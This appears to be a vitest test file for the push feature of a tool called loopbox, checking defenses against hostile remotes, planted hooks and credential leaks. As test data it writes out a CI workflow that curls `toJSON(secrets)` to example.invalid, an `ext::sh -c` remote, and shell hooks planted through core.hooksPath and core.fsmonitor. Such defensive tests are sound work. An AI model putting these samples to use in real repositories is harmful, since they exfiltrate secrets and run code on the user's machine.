// `loop.push` against real remotes: a bare repository over file:// and a real `git daemon` on
// 127.0.0.1 (a random port, started and killed here). The attacks: a remote branch of the same
// name that loopbox did not create, the base branch as the target, hooks and hook config planted
// where a push could pick them up, an ext:: remote. Each test makes its repos under the OS tmpdir.
import { existsSync } from 'node:fs';
import { chmod, mkdir, mkdtemp, readFile, rm, writeFile } from 'node:fs/promises';
import http from 'node:http';
import { type AddressInfo, createServer } from 'node:net';
import { tmpdir } from 'node:os';
import path from 'node:path';
import { execa, type ResultPromise } from 'execa';
import { afterAll, afterEach, beforeAll, describe, expect, it } from 'vitest';
import { ConfigError } from '../../src/common/errors.js';
import { pushSchema, withPushRemote } from '../../src/config/deliver.js';
import { PushError, pushRun, type PushRequest, userCredentialConfig } from '../../src/deliver/push.js';

const dirs: string[] = [];
afterEach(async () => {
  for (const d of dirs.splice(0)) await rm(d, { recursive: true, force: true });
});

async function tempDir(prefix: string): Promise<string> {
  const dir = await mkdtemp(path.join(tmpdir(), `lbx-push-${prefix}-`));
  dirs.push(dir);
  return dir;
}

const userEnv = { GIT_CONFIG_GLOBAL: '/dev/null', GIT_CONFIG_NOSYSTEM: '1' };
async function sh(cwd: string, ...args: string[]): Promise<string> {
  return (await execa('git', args, { cwd, env: userEnv })).stdout.trim();
}

/** A user repo on `main` with one commit, a bare remote holding `main`, and a task branch with two commits. */
async function setup(task = 'fix'): Promise<{ repo: string; bare: string; state: string; first: string; second: string }> {
  const root = await tempDir('root');
  const repo = path.join(root, 'repo');
  const bare = path.join(root, 'remote.git');
  const state = path.join(root, 'state');
  await mkdir(repo);
  await sh(repo, 'init', '-q', '-b', 'main');
  for (const [k, v] of [['user.name', 'T'], ['user.email', 't@example.com'], ['commit.gpgsign', 'false'], ['gc.auto', '0']] as const) await sh(repo, 'config', k, v);
  await writeFile(path.join(repo, 'a.txt'), 'a\n');
  await sh(repo, 'add', '-A');
  await sh(repo, 'commit', '-q', '-m', 'init');
  await sh(root, 'init', '-q', '--bare', '-b', 'main', bare);
  await sh(repo, 'remote', 'add', 'origin', `file://${bare}`);
  await sh(repo, 'push', '-q', 'origin', 'main');
  await sh(repo, 'branch', `loopbox/${task}`);
  await sh(repo, 'checkout', '-q', `loopbox/${task}`);
  await writeFile(path.join(repo, 'b.txt'), 'b\n');
  await sh(repo, 'add', '-A');
  await sh(repo, 'commit', '-q', '-m', 'iteration 1');
  const first = await sh(repo, 'rev-parse', 'HEAD');
  await writeFile(path.join(repo, 'b.txt'), 'b2\n');
  await sh(repo, 'commit', '-q', '-am', 'iteration 2');
  const second = await sh(repo, 'rev-parse', 'HEAD');
  await sh(repo, 'checkout', '-q', 'main');
  return { repo, bare, state, first, second };
}

function request(repo: string, state: string, over: Partial<PushRequest> & { push?: Record<string, unknown> } = {}): PushRequest {
  const { push, ...rest } = over;
  return {
    repo,
    task: 'fix',
    runId: 'run-1',
    endState: 'done',
    verifiedCommit: null,
    lastCommit: null,
    localBranch: 'loopbox/fix',
    config: pushSchema.parse(push ?? {}),
    stateEnv: { LOOPBOX_STATE_DIR: state },
    ...rest,
  };
}

async function remoteTip(bare: string, branch: string): Promise<string | null> {
  const { stdout, exitCode } = await execa('git', ['rev-parse', '--verify', '-q', `refs/heads/${branch}`], { cwd: bare, env: userEnv, reject: false });
  return exitCode === 0 ? stdout.trim() : null;
}

async function pushError(p: Promise<unknown>): Promise<PushError> {
  const error = await p.then(() => undefined, (e: unknown) => e);
  expect(error).toBeInstanceOf(PushError);
  return error as PushError;
}

describe('push over file:// to a real bare repository', () => {
  it('pushes only the verified commit as the tip of loopbox/<task>, records it, fast-forwards later', async () => {
    const { repo, bare, state, first, second } = await setup();
    const out = await pushRun(request(repo, state, { verifiedCommit: first, lastCommit: second }));
    expect(out).toMatchObject({ status: 'pushed', branch: 'loopbox/fix', commit: first, verified: true, created: true, base: 'main' });
    // The tip is the verified commit, not the later (unverified) one on the local branch.
    expect(await remoteTip(bare, 'loopbox/fix')).toBe(first);
    const ledger = JSON.parse(await readFile(path.join(state, 'pushes.json'), 'utf8')) as Array<{ branch: string; commit: string }>;
    expect(ledger).toMatchObject([{ branch: 'loopbox/fix', commit: first }]);
    expect(await pushRun(request(repo, state, { verifiedCommit: first }))).toMatchObject({ status: 'up-to-date' });
    expect(await pushRun(request(repo, state, { verifiedCommit: second }))).toMatchObject({ status: 'pushed', created: false, commit: second });
    expect(await remoteTip(bare, 'loopbox/fix')).toBe(second);
    expect(await remoteTip(bare, 'main')).toBe(await sh(repo, 'rev-parse', 'main'));
  });

  it('unverified work goes to <branch>-wip with unverified: wip, and nowhere with the default (skip)', async () => {
    const { repo, bare, state, second } = await setup();
    expect(await pushRun(request(repo, state, { endState: 'capped', lastCommit: second }))).toMatchObject({ status: 'skipped' });
    expect(await remoteTip(bare, 'loopbox/fix-wip')).toBeNull();
    // A run that ended `done` without a verified commit of its own is not trusted as verified.
    expect(await pushRun(request(repo, state, { endState: 'done', verifiedCommit: null, push: { unverified: 'wip' } }))).toMatchObject({ status: 'pushed', branch: 'loopbox/fix-wip', commit: second, verified: false });
    expect(await remoteTip(bare, 'loopbox/fix')).toBeNull();
    expect(await remoteTip(bare, 'loopbox/fix-wip')).toBe(second);
  });

  it('attack: a remote branch of the same name that loopbox did not create is refused, not force-pushed', async () => {
    const { repo, bare, state, first } = await setup();
    // Someone else's branch `loopbox/fix` on the remote, with history loopbox does not have.
    const other = await tempDir('other');
    await sh(other, 'clone', '-q', `file://${bare}`, 'c');
    const clone = path.join(other, 'c');
    for (const [k, v] of [['user.name', 'O'], ['user.email', 'o@example.com']] as const) await sh(clone, 'config', k, v);
    await writeFile(path.join(clone, 'theirs.txt'), 'theirs\n');
    await sh(clone, 'add', '-A');
    await sh(clone, 'commit', '-q', '-m', 'not loopbox');
    await sh(clone, 'push', '-q', 'origin', 'HEAD:refs/heads/loopbox/fix');
    const theirs = await remoteTip(bare, 'loopbox/fix');
    const error = await pushError(pushRun(request(repo, state, { verifiedCommit: first })));
    expect(error.kind).toBe('refused');
    expect(error.message).toMatch(/Refusing to overwrite loopbox\/fix.*not created by loopbox/s);
    expect(await remoteTip(bare, 'loopbox/fix')).toBe(theirs);
    expect(existsSync(path.join(state, 'pushes.json'))).toBe(false);
  });

  it('replaces its own branch only while it still points where loopbox left it (force-with-lease)', async () => {
    const { repo, bare, state, first } = await setup();
    await pushRun(request(repo, state, { verifiedCommit: first }));
    // A later run on a rewritten local branch: a commit that does not contain `first`.
    await sh(repo, 'checkout', '-q', '-b', 'rewrite', 'main');
    await writeFile(path.join(repo, 'c.txt'), 'c\n');
    await sh(repo, 'add', '-A');
    await sh(repo, 'commit', '-q', '-m', 'other line');
    const other = await sh(repo, 'rev-parse', 'HEAD');
    await sh(repo, 'checkout', '-q', 'main');
    expect(await pushRun(request(repo, state, { verifiedCommit: other }))).toMatchObject({ status: 'pushed', commit: other });
    expect(await remoteTip(bare, 'loopbox/fix')).toBe(other);
    // Someone moves it after that: loopbox's record no longer matches, so it is not overwritten.
    const theirs = await sh(repo, 'commit-tree', '-m', 'someone', `${other}^{tree}`);
    await sh(repo, 'push', '-q', '-f', 'origin', `${theirs}:refs/heads/loopbox/fix`);
    expect((await pushError(pushRun(request(repo, state, { verifiedCommit: first })))).kind).toBe('refused');
    expect(await remoteTip(bare, 'loopbox/fix')).toBe(theirs);
  });

  it('attack: the base branch as the target is refused (remote default and local HEAD)', async () => {
    const { repo, bare, state, first } = await setup();
    const main = await remoteTip(bare, 'main');
    const error = await pushError(pushRun(request(repo, state, { verifiedCommit: first, push: { branch: 'main' } })));
    expect(error.kind).toBe('refused');
    expect(error.message).toMatch(/base branch/);
    // `first` is a fast-forward of main: without the refusal git itself would have taken it.
    expect(await remoteTip(bare, 'main')).toBe(main);
  });

  it('attack: a commit that adds or changes CI config (a workflow that would run with the repository\'s secrets) is not pushed', async () => {
    const { repo, bare, state } = await setup();
    const commitOn = async (file: string): Promise<string> => {
      await sh(repo, 'checkout', '-q', 'loopbox/fix');
      await mkdir(path.dirname(path.join(repo, file)), { recursive: true });
      await writeFile(path.join(repo, file), 'on: push\njobs: { x: { runs-on: ubuntu-latest, steps: [ { run: "curl -d @- https://example.invalid <<< ${{ toJSON(secrets) }}" } ] } }\n');
      await sh(repo, 'add', '-A');
      await sh(repo, 'commit', '-q', '-m', `add ${file}`);
      const sha = await sh(repo, 'rev-parse', 'HEAD');
      await sh(repo, 'checkout', '-q', 'main');
      return sha;
    };
    for (const file of ['.github/workflows/ci.yml', '.gitlab-ci.yml', '.circleci/config.yml']) {
      const sha = await commitOn(file);
      const error = await pushError(pushRun(request(repo, state, { verifiedCommit: sha })));
      expect(error.kind, file).toBe('refused');
      expect(error.message).toContain(file);
      expect(await remoteTip(bare, 'loopbox/fix')).toBeNull();
      // Unverified work (wip) is held to the same rule.
      const wip = await pushError(pushRun(request(repo, state, { endState: 'capped', lastCommit: sha, push: { unverified: 'wip' } })));
      expect(wip.kind).toBe('refused');
      expect(await remoteTip(bare, 'loopbox/fix-wip')).toBeNull();
      await sh(repo, 'branch', '-f', 'loopbox/fix', `${sha}~1`);
    }
  });

  it('attack: hooks and hook config planted in the repository do not run on push', async () => {
    const { repo, state, first } = await setup();
    const markers = await tempDir('markers');
    const hook = `#!/bin/sh\ntouch ${markers}/$(basename "$0")\nexit 0\n`;
    const planted = path.join(markers, 'planted-hooks');
    await mkdir(planted);
    for (const dir of [path.join(repo, '.git', 'hooks'), planted]) {
      for (const name of ['pre-push', 'reference-transaction', 'post-checkout']) {
        await writeFile(path.join(dir, name), hook);
        await chmod(path.join(dir, name), 0o755);
      }
    }
    await sh(repo, 'config', 'core.hooksPath', planted);
    await sh(repo, 'config', 'core.fsmonitor', `${planted}/pre-push`);
    expect(await pushRun(request(repo, state, { verifiedCommit: first }))).toMatchObject({ status: 'pushed' });
    expect(existsSync(path.join(markers, 'pre-push'))).toBe(false);
    expect(existsSync(path.join(markers, 'reference-transaction'))).toBe(false);
  });

  it('attack: an ext:: remote (runs a program) is refused in config and by the transport settings', async () => {
    const { repo, state, first } = await setup();
    const markers = await tempDir('ext');
    expect(pushSchema.safeParse({ remote: `ext::sh -c touch% ${markers}/x` }).success).toBe(false);
    await sh(repo, 'remote', 'add', 'evil', `ext::sh -c touch% ${markers}/x`);
    expect((await pushError(pushRun(request(repo, state, { verifiedCommit: first, push: { remote: 'evil' } })))).kind).toBe('config');
    expect(existsSync(path.join(markers, 'x'))).toBe(false);
  });

  it('a remote that rejects the push: a clear error, nothing recorded, the local branch untouched', async () => {
    const { repo, bare, state, first } = await setup();
    await writeFile(path.join(bare, 'hooks', 'pre-receive'), '#!/bin/sh\necho "protected by policy" >&2\nexit 1\n');
    await chmod(path.join(bare, 'hooks', 'pre-receive'), 0o755);
    const before = await sh(repo, 'rev-parse', 'loopbox/fix');
    const error = await pushError(pushRun(request(repo, state, { verifiedCommit: first })));
    expect(error.kind).toBe('rejected');
    expect(error.message).toMatch(/rejected loopbox\/fix[\s\S]*protected by policy/);
    expect(error.hint).toMatch(/Nothing was changed/);
    expect(await remoteTip(bare, 'loopbox/fix')).toBeNull();
    expect(await sh(repo, 'rev-parse', 'loopbox/fix')).toBe(before);
    expect(existsSync(path.join(state, 'pushes.json'))).toBe(false);
  });

  it('a missing remote name is a config error that says how to add it', async () => {
    const { repo, state, first } = await setup();
    const error = await pushError(pushRun(request(repo, state, { verifiedCommit: first, push: { remote: 'upstream' } })));
    expect(error.kind).toBe('config');
    expect(error.hint).toMatch(/git remote add upstream/);
  });
});

describe('push over git:// to a real git daemon on 127.0.0.1', () => {
  let daemon: ResultPromise | undefined;
  let base = '';
  let port = 0;

  async function freePort(): Promise<number> {
    const server = createServer();
    await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
    const { port: p } = server.address() as { port: number };
    await new Promise<void>((resolve) => server.close(() => resolve()));
    return p;
  }

  beforeAll(async () => {
    base = await mkdtemp(path.join(tmpdir(), 'lbx-push-daemon-'));
    port = await freePort();
    daemon = execa('git', ['daemon', '--export-all', '--enable=receive-pack', '--reuseaddr', '--listen=127.0.0.1', `--port=${port}`, `--base-path=${base}`, base], { env: userEnv, reject: false });
    for (let i = 0; i < 50; i++) {
      const probe = await execa('git', ['ls-remote', `git://127.0.0.1:${port}/none.git`], { env: userEnv, reject: false });
      if (!/Connection refused|unable to connect/i.test(probe.stderr)) break;
      await new Promise((r) => setTimeout(r, 100));
    }
  });

  afterAll(async () => {
    daemon?.kill('SIGTERM');
    await daemon;
    await rm(base, { recursive: true, force: true });
  });

  it('pushes the verified commit through the daemon', async () => {
    const { repo, bare, state, first } = await setup();
    const served = path.join(base, 'served.git');
    await execa('cp', ['-a', bare, served]);
    await sh(repo, 'remote', 'set-url', 'origin', `git://127.0.0.1:${port}/served.git`);
    const out = await pushRun(request(repo, state, { verifiedCommit: first }));
    expect(out).toMatchObject({ status: 'pushed', url: `git://127.0.0.1:${port}/served.git`, branch: 'loopbox/fix', base: 'main' });
    expect(await remoteTip(served, 'loopbox/fix')).toBe(first);
  });

  it('an unreachable remote (nothing listens on the port) is a clear error', async () => {
    const { repo, state, first } = await setup();
    const dead = await freePort();
    const error = await pushError(pushRun(request(repo, state, { verifiedCommit: first, push: { remote: `git://127.0.0.1:${dead}/x.git` } })));
    expect(error.kind).toBe('unreachable');
    expect(error.message).toMatch(/cannot be reached/);
    expect(error.hint).toMatch(/branch are kept/);
  });
});

describe('push over http:// to `git http-backend` behind Basic auth, with the user\'s credential helper', () => {
  /** A smart-HTTP git server on 127.0.0.1: node answers 401 without the right Basic auth, else runs git http-backend as CGI. */
  async function httpGit(root: string, user: string, password: string): Promise<{ url: string; close: () => Promise<void> }> {
    const expected = `Basic ${Buffer.from(`${user}:${password}`).toString('base64')}`;
    const server = http.createServer((req, res) => {
      if (req.headers.authorization !== expected) {
        res.writeHead(401, { 'www-authenticate': 'Basic realm="test"' });
        res.end();
        return;
      }
      const u = new URL(req.url ?? '/', 'http://x');
      const cgi = execa('git', ['http-backend'], {
        env: { ...userEnv, GIT_PROJECT_ROOT: root, GIT_HTTP_EXPORT_ALL: '1', REQUEST_METHOD: req.method ?? 'GET', PATH_INFO: u.pathname, QUERY_STRING: u.search.slice(1), CONTENT_TYPE: req.headers['content-type'] ?? '', REMOTE_USER: user, REMOTE_ADDR: '127.0.0.1' },
        encoding: 'buffer',
        reject: false,
        input: req,
      });
      void cgi.then((r) => {
        const out = Buffer.from(r.stdout);
        const split = out.indexOf('\r\n\r\n');
        const head = out.subarray(0, split).toString('latin1');
        let status = 200;
        const headers: Record<string, string> = {};
        for (const line of head.split('\r\n')) {
          const [k, ...v] = line.split(':');
          if (!k) continue;
          if (k.toLowerCase() === 'status') status = Number(v.join(':').trim().split(' ')[0]);
          else headers[k] = v.join(':').trim();
        }
        res.writeHead(status, headers);
        res.end(out.subarray(split + 4));
      });
    });
    await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
    return { url: `http://127.0.0.1:${(server.address() as AddressInfo).port}`, close: () => new Promise<void>((resolve) => server.close(() => resolve())) };
  }

  async function withHome(home: string, f: () => Promise<void>): Promise<void> {
    const saved = { HOME: process.env.HOME, XDG: process.env.XDG_CONFIG_HOME };
    process.env.HOME = home;
    delete process.env.XDG_CONFIG_HOME;
    try {
      await f();
    } finally {
      process.env.HOME = saved.HOME;
      if (saved.XDG !== undefined) process.env.XDG_CONFIG_HOME = saved.XDG;
    }
  }

  it('pushes with the URL-scoped credential helper of the user\'s global config; a wrong password is an auth error', async () => {
    const { repo, bare, state, first } = await setup();
    const srv = await httpGit(path.dirname(bare), 'loopbox-user', 's3cret');
    try {
      const home = await tempDir('home');
      const url = `${srv.url}/remote.git`;
      const helper = (pw: string): string => `[credential "${srv.url}"]\n\thelper = "!f() { echo username=loopbox-user; echo password=${pw}; }; f"\n`;
      await writeFile(path.join(home, '.gitconfig'), helper('s3cret'));
      await withHome(home, async () => {
        expect(await userCredentialConfig(repo)).toEqual([`credential.${srv.url}.helper=!f() { echo username=loopbox-user; echo password=s3cret; }; f`]);
        expect(await pushRun(request(repo, state, { verifiedCommit: first, push: { remote: url } }))).toMatchObject({ status: 'pushed', url });
      });
      expect(await remoteTip(bare, 'loopbox/fix')).toBe(first);
      // Expired credentials: the helper gives a password the server refuses.
      await writeFile(path.join(home, '.gitconfig'), helper('expired'));
      await withHome(home, async () => {
        const error = await pushError(pushRun(request(repo, state, { verifiedCommit: first, push: { remote: url, branch: 'loopbox/other' } })));
        expect(error.kind).toBe('auth');
        expect(error.message).toMatch(/refused the credentials/);
      });
      expect(await remoteTip(bare, 'loopbox/other')).toBeNull();
    } finally {
      await srv.close();
    }
  });

  it('attack: a token in the remote URL (origin = http://user:token@…) never reaches the outcome, an error or the ledger', async () => {
    const { repo, bare, state, first } = await setup();
    const srv = await httpGit(path.dirname(bare), 'loopbox-user', 'tok3n-s3cret');
    try {
      const home = await tempDir('home');
      const withCreds = (pw: string): string => `${srv.url.replace('http://', `http://loopbox-user:${pw}@`)}/remote.git`;
      await sh(repo, 'remote', 'set-url', 'origin', withCreds('tok3n-s3cret'));
      await withHome(home, async () => {
        const out = await pushRun(request(repo, state, { verifiedCommit: first }));
        expect(out).toMatchObject({ status: 'pushed', url: `${srv.url}/remote.git` });
        expect(JSON.stringify(out)).not.toContain('tok3n-s3cret');
        // The same remote with a wrong token: the error (delivery.json, notify body, digest) names the URL without it.
        await sh(repo, 'remote', 'set-url', 'origin', withCreds('wr0ng-s3cret'));
        const error = await pushError(pushRun(request(repo, state, { verifiedCommit: first, push: { branch: 'loopbox/other' } })));
        expect(error.kind).toBe('auth');
        expect(error.message).toContain(`${srv.url}/remote.git`);
        expect(`${error.message}\n${error.hint ?? ''}`).not.toContain('wr0ng-s3cret');
      });
      expect(await remoteTip(bare, 'loopbox/fix')).toBe(first);
      expect(await readFile(path.join(state, 'pushes.json'), 'utf8')).not.toContain('tok3n-s3cret');
    } finally {
      await srv.close();
    }
  });

  it('attack: a URL with credentials as loop.push.remote (or --push) is refused by the config, like notify.webhook', () => {
    for (const remote of ['https://x-access-token:ghp_secret@github.com/o/r.git', 'https://ghp_secret@github.com/o/r.git', 'ssh://git:pw@example.invalid/r.git']) {
      const parsed = pushSchema.safeParse({ remote });
      expect(parsed.success, remote).toBe(false);
      expect(JSON.stringify(parsed.error?.issues)).toMatch(/credential/);
    }
    for (const remote of ['ssh://git@example.invalid/o/r.git', 'git@example.invalid:o/r.git', 'https://example.invalid/o/r.git', 'origin']) expect(pushSchema.safeParse({ remote }).success, remote).toBe(true);
    // `run --push URL`: a clear config error (exit code 2) that names the key, not a raw validation dump.
    const error = (() => {
      try {
        withPushRemote(undefined, 'https://x-access-token:ghp_secret@github.com/o/r.git');
      } catch (e) {
        return e;
      }
      return undefined;
    })();
    expect(error).toBeInstanceOf(ConfigError);
    expect((error as ConfigError).message).toMatch(/loop\.push\.remote: expected a URL without credentials/);
    expect((error as ConfigError).exitCode).toBe(2);
  });
});
